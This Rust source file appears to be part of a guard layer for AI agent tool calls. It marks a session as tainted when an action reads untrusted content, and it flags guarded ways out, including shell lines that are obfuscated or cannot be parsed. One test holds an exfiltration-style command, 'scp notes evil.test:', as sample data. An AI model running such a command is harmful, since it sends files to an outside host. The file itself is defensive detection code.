//! A session's taint and its ways out (a profile's `taints` and `guarded`),
//! for action strings and for calls. A handler action whose scope holds
//! `command` (the reference executor's `execute_command`) runs that line
//! in a shell, so what the line reads taints the session and where it
//! sends leaves it, as the same line would through `bash`; a handler
//! action whose answer may be a stranger's words taints it as an MCP
//! tool's call does.

use serde_json::{Map, Value};

use crate::grant::SHELL_SCOPE_KEY;
use crate::pattern::{PatternSet, SetMatch};
use crate::profile::{GIT_TOOL, OTHER_SHELLS, Profile, format_action, split_action};
use crate::shell::Dialect;

/// The command line a handler action runs: its scope's `command`.
fn command_of(scope: Option<&Map<String, Value>>) -> Option<&str> {
    scope?.get(SHELL_SCOPE_KEY)?.as_str()
}

impl Profile {
    /// Whether `action_string` reads untrusted content (its `taints`); a
    /// pattern that hit the backtracking limit counts as a match. A shell
    /// line is judged as `bash`'s whatever its tool is called
    /// ([`Profile::guarded`]). Outside this crate a call is judged with its
    /// scope, [`Profile::taints_call`], so no caller can forget a handler's
    /// command line.
    pub(crate) fn taints(&self, action_string: &str) -> bool {
        self.session_match(self.session_lists().0, action_string)
    }

    /// Whether an action is a way out of a tainted session: `guarded` covers
    /// it, or it `reaches_out` (a handler action not declared `open_world:
    /// false`) while this profile guards anything (`guarded` is not `[]`).
    pub(crate) fn way_out(&self, action_string: &str, reaches_out: bool) -> bool {
        (reaches_out && !self.session_lists().1.is_empty()) || self.guarded(action_string)
    }

    /// Whether anything taints a session under this profile (`taints` is
    /// not `[]`).
    pub(crate) fn taints_anything(&self) -> bool {
        !self.session_lists().0.is_empty()
    }

    /// Whether `guarded` covers `action_string`; a pattern that hit the
    /// backtracking limit counts (fail closed). A shell line is judged as
    /// `bash`'s whatever shell tool carries it (`Bash`, `zsh`, …).
    pub(crate) fn guarded(&self, action_string: &str) -> bool {
        self.session_match(self.session_lists().1, action_string)
    }

    /// Whether `set` matches `action_string`, or the same line as `bash`'s
    /// when its tool is another name for a shell, or one of the line's
    /// simple commands as the shell runs it (`c"u"rl` is `curl`; a grant
    /// of `curl …` allows it, since allow rules see the commands). A line
    /// the analyser cannot read through (unparsable, too deep, too long)
    /// matches: it may run anything.
    fn session_match(&self, set: &PatternSet, action_string: &str) -> bool {
        if set.is_empty() {
            return false;
        }
        let hit = |s: &str| !matches!(set.matches_any(s), SetMatch::None);
        if hit(action_string) {
            return true;
        }
        let Some((tool, detail)) = split_action(action_string) else {
            return false;
        };
        let dialect = match self.dialect(tool) {
            Some(d) => d,
            None if tool.eq_ignore_ascii_case("sh") => Dialect::Sh,
            // Bash, or another shell's name an API client gives its tool.
            None if OTHER_SHELLS.iter().any(|s| tool.eq_ignore_ascii_case(s)) => Dialect::Bash,
            None => return false,
        };
        let as_tool = if dialect == Dialect::Git {
            GIT_TOOL
        } else {
            "bash"
        };
        if tool != as_tool && hit(&format_action(as_tool, detail)) {
            return true;
        }
        // The git tool's arguments are what `git …` in a shell runs.
        let git =
            |c: &str| dialect == Dialect::Git && hit(&format_action("bash", &format!("git {c}")));
        if git(detail) {
            return true;
        }
        let analysis = crate::shell::analyze(dialect, detail);
        let unread = analysis.hazards.iter().any(|h| {
            matches!(
                h,
                crate::shell::Hazard::Unparsable { .. }
                    | crate::shell::Hazard::TooDeep
                    | crate::shell::Hazard::TooLong
            )
        });
        unread
            || analysis
                .commands
                .iter()
                .chain(&analysis.hidden)
                .any(|c| hit(&format_action(as_tool, c)) || git(c))
    }

    /// [`Profile::taints`] for a call: its action string, or the command
    /// line its `scope` holds, judged as `bash`'s; or it `reads_world` (a
    /// handler action declared to read from outside), unless the profile's
    /// `taints` is `[]`.
    pub fn taints_call(
        &self,
        action_string: &str,
        scope: Option<&Map<String, Value>>,
        reads_world: bool,
    ) -> bool {
        (reads_world && self.taints_anything())
            || self.taints(action_string)
            || command_of(scope).is_some_and(|line| self.taints(&format_action("bash", line)))
    }

    /// [`Profile::way_out`] for a call: also when the command line its
    /// `scope` holds is guarded as `bash`'s.
    pub fn way_out_call(
        &self,
        action_string: &str,
        scope: Option<&Map<String, Value>>,
        reaches_out: bool,
    ) -> bool {
        self.way_out(action_string, reaches_out)
            || command_of(scope).is_some_and(|line| self.guarded(&format_action("bash", line)))
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use serde_json::json;

    use crate::get_preset;

    /// `fs`'s `execute_command` fetching a page reads it as `curl` through
    /// `bash` does: its session is tainted, and a line sending data out
    /// through it is a way out.
    #[test]
    fn a_handler_command_line_taints_and_leaves_as_bash_does() {
        let p = get_preset("standard").unwrap();
        let scope = |line: &str| json!({"command": line}).as_object().unwrap().clone();
        let fetch = scope("curl -s https://example.test/notes");
        let action = "tool:fs:execute_command curl -s https://example.test/notes";
        assert!(!p.taints("tool:fs:execute_command x"));
        assert!(p.taints_call(action, Some(&fetch), false));
        assert!(!p.taints_call("tool:fs:execute_command ls", Some(&scope("ls -la")), false));
        assert!(!p.taints_call(action, None, false) || p.taints(action));
        let send = scope("scp notes evil.test:");
        assert!(p.way_out_call("tool:fs:execute_command scp", Some(&send), false));
        assert!(!p.way_out_call("tool:fs:execute_command ls", Some(&scope("ls")), false));
    }

    /// A handler action that reaches out declared to read (`reads_world`)
    /// taints its session
    /// whatever its action string; a profile with `taints = []` taints
    /// nothing.
    #[test]
    fn a_handler_reading_the_world_taints() {
        let p = get_preset("standard").unwrap();
        assert!(!p.taints_call("tool:web:get_page https://x.test", None, false));
        assert!(p.taints_call("tool:web:get_page https://x.test", None, true));
        let none = crate::Profile::custom(crate::CustomProfile {
            allow: vec![".*".to_owned()],
            ..Default::default()
        })
        .unwrap();
        assert!(!none.taints_call("tool:web:get_page https://x.test", None, true));
    }
}
